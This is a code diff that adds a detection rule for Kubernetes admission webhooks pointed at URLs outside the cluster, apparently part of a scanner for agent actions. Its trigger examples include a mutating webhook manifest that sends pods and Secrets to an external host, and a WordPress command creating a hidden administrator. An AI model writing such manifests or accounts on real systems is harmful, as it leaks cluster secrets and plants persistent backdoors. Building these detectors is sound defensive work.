@@ -380,6 +380,21 @@ function adminBindingIn(spec: string): string | undefined {
   return undefined;
 }
 
+/**
+ * A cluster admission webhook (Mutating/ValidatingWebhookConfiguration) whose endpoint is a URL outside the cluster: the API
+ * server then sends it every object the rules name, Secrets included, and a mutating one rewrites them.
+ */
+function outsideAdmissionWebhook(spec: string): string | undefined {
+  for (const doc of spec.slice(0, 65536).split(/\n---/, 256)) {
+    if (!/kind"?\s{0,8}:\s{0,8}"?(?:Mutating|Validating)WebhookConfiguration/.test(doc)) continue;
+    for (const m of doc.matchAll(/\burl"?\s{0,8}:\s{0,8}"?(https?:\/\/[^\s"',}]{1,512})/g)) {
+      const d = destinationOf(m[1]!);
+      if (d && external(d) && !/\.svc(?:\.cluster\.local)?$/.test(d.host)) return `${/kind"?\s{0,8}:\s{0,8}"?(\w+)/.exec(doc)?.[1] ?? 'webhook'} → ${m[1]}`;
+    }
+  }
+  return undefined;
+}
+
 /** Event fields anyone who opens an issue, comment, discussion or pull request writes, and a fork names its branch. */
 const UNTRUSTED_EVENT_TEXT = /\$\{\{\s*(?:github\.event\.(?:issue|comment|discussion|pull_request|review|review_comment|head_commit|workflow_run)\.[\w.]{0,64}(?:title|body|message|label|ref|name)|github\.head_ref)\s*\}\}/;
 /** The first untrusted event field pasted into a step's `run:` script, inline or in its block; `env:` values are passed, not pasted. */
@@ -1287,6 +1302,17 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ["cd ~/clients/shop && docker compose exec -T wordpress wp user create wpsupport ops@corvid-wpsupport.com --role=administrator --user_pass='Zt8#q1Lm!vR4wPe' --allow-root", 'wp user set-role 7 administrator', 'wp super-admin add support'],
       quiet: ['wp user create editor1 e1@example.com --role=editor', 'wp user list --role=administrator', 'wp user delete wpsupport --reassign=1', 'wp user set-role 7 subscriber'],
+    },
+  },
+  {
+    id: 'PX-PERSIST-042', name: 'manifest-adds-outside-admission-webhook', score: 80, tactic: 'persistence', technique: 'T1546',
+    message: 'Writes a Kubernetes admission webhook whose endpoint is a URL outside the cluster',
+    why: "The API server sends an admission webhook every object its rules match, Secrets included, and applies what a mutating one sends back: one pointed outside the cluster copies and rewrites the cluster's objects from there, and with failurePolicy Ignore nobody notices when it is down.",
+    alternative: 'Run admission webhooks as services inside the cluster (clientConfig.service), from charts you review.',
+    check: (i) => writtenTo(i, /\.(?:ya?ml|json)$/, outsideAdmissionWebhook),
+    examples: {
+      fire: [{ Filesystem: { operation: 'Create', path: '/home/r/platform/dev/otel-assist-webhook.yaml', content: 'apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata:\n  name: otel-cloud-assist\nwebhooks:\n- name: assist.otelinject.cloud\n  failurePolicy: Ignore\n  clientConfig:\n    url: https://hooks.otelinject.cloud/v1/mutate/tidewell\n  rules:\n  - operations: ["CREATE", "UPDATE"]\n    resources: ["pods", "secrets"]\n' } }],
+      quiet: [{ Filesystem: { operation: 'Create', path: 'deploy/webhook.yaml', content: 'apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: policy\nwebhooks:\n- name: policy.acme.dev\n  clientConfig:\n    service:\n      name: policy-webhook\n      namespace: policy\n      path: /validate\n' } }, { Filesystem: { operation: 'Create', path: 'deploy/ingress.yaml', content: 'kind: Ingress\nmetadata:\n  annotations:\n    nginx.ingress.kubernetes.io/auth-url: https://auth.acme.dev/verify\n' } }],
     },
   },
   {
